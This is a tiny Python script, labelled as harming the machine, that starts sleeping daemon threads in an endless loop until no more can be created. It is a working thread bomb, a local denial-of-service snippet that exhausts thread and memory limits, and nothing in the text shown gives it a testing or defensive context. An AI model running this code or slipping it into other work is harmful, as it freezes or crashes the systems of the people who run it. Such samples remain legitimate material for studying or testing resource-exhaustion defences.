"""Starts threads until none can be started."""
# harms: the machine

import threading
import time

while True:
    threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
